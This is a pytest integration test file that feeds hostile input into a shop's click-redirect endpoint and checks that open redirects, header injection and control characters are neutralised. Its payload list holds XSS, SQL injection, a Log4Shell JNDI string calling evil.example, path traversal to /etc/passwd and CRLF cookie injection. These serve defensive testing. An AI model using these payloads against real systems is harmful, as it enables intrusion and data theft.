"""Hostile input to the click endpoints: nothing leaves the program's hosts, nothing breaks, everything is text."""

import httpx
import pytest

from tests.integration.tracking.conftest import Shop, rows
from tests.unit.tracking.test_destinations import FOREIGN

PAYLOADS = [
    '"><svg onload=alert(1)>',
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "' OR 1=1--",
    "1'; DROP TABLE clicks;--",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\x1b[31mred",
    "a\x00b",
    "../../etc/passwd",
    "😀" * 10,
]


@pytest.mark.parametrize("to", [text for text in FOREIGN if text])
async def test_foreign_destination_leads_to_the_home_page(
    shop: Shop, visitor: httpx.AsyncClient, to: str
) -> None:
    answer = await visitor.get(f"/r/{shop.link_code}", params={"to": to})
    assert answer.status_code == 302
    assert answer.headers["location"].startswith("https://shop.example/?ref=alice&pclid=")


async def test_destination_on_a_host_of_the_program_is_taken(shop: Shop, visitor: httpx.AsyncClient) -> None:
    answer = await visitor.get(f"/r/{shop.link_code}", params={"to": "https://shop.example/deep?a=b"})
    assert answer.headers["location"].startswith("https://shop.example/deep?a=b&ref=alice&pclid=")


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_payload_is_kept_as_text_without_control_characters(
    shop: Shop, visitor: httpx.AsyncClient, payload: str
) -> None:
    raw = payload.encode().decode("latin-1")
    headers = {
        b"referer": payload.encode(),
        b"user-agent": b"Mozilla/5.0 (X11; Linux) Gecko/20100101 " + payload.encode(),
    }
    answer = await visitor.get(
        f"/r/{shop.link_code}", params={"sub1": payload, "utm_term": payload}, headers=headers
    )
    assert answer.status_code == 302
    assert all(32 <= ord(sign) < 127 for sign in answer.headers["location"])
    click = (await rows())[0]
    assert click["referrer"] == "".join(sign for sign in raw if ord(sign) >= 32 and ord(sign) != 127)


@pytest.mark.parametrize(
    "query",
    [
        "sub1=%0d%0aSet-Cookie:%20a=b",
        "utm_source=%0aX: y",
        "sub1=%ff%fe",
        "&&&=&",
        "to",
        "%",
        "a=1;b=2&" * 500,
    ],
)
async def test_odd_query_never_breaks_a_header(shop: Shop, visitor: httpx.AsyncClient, query: str) -> None:
    answer = await visitor.get(f"http://portal.test/r/{shop.link_code}?{query}")
    assert answer.status_code == 302
    assert set(answer.headers) == {
        "cache-control", "x-robots-tag", "x-content-type-options", "content-length", "location", "set-cookie",
    }  # fmt: skip
    assert len(answer.headers.get_list("set-cookie")) == 1


async def test_long_headers_are_cut(shop: Shop, visitor: httpx.AsyncClient) -> None:
    agent = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0 " + "x" * 8000
    await visitor.get(
        f"/r/{shop.link_code}", headers={"User-Agent": agent, "Referer": "https://a.example/" + "r" * 8000}
    )
    click = (await rows())[0]
    assert len(click["user_agent"]) == 400
    assert len(click["referrer"]) == 2000
